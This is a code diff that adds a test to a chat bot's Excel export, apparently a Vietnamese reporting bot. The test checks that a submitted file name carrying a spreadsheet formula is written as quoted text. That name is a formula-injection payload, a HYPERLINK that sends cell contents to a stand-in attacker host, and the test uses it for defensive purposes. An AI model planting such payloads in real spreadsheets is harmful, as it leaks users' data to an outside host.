@@ -138,3 +138,24 @@ async def test_old_chat_exports_are_swept(talk, services):
     os.utime(stale, (0, 0))
     second = (await talk("staff", "/xuatexcel"))[0].document
     assert second.exists() and first.exists() and not stale.exists()
+
+
+def test_user_supplied_names_are_text_never_formulas(cli_env, capsys, tmp_path):
+    """A file named ``=HYPERLINK(…) x.pdf`` stays the text it is: no live formula in the export."""
+    import zipfile
+
+    from bot.app import build_services
+    from bot.settings import load_settings
+
+    services = build_services(load_settings())
+    evil = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây") x.pdf'
+    add_submission(services, "so-y-te", SELF_REPORT, at=datetime(2020, 9, 29, 16, 0, tzinfo=TZ), name=evil)
+    services.store.dispose()
+    out = tmp_path / "tong-hop.xlsx"
+    assert main(["export", "--out", str(out)]) == 0
+    with zipfile.ZipFile(out) as zf:
+        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in xml for xml in sheets)  # no formula anywhere in the workbook
+    ws = load_workbook(out)["BC tự kiểm tra (Mục III.4)"]
+    cell = next(c for row in ws.iter_rows() for c in row if c.value == evil)
+    assert cell.data_type == "s" and cell.quotePrefix
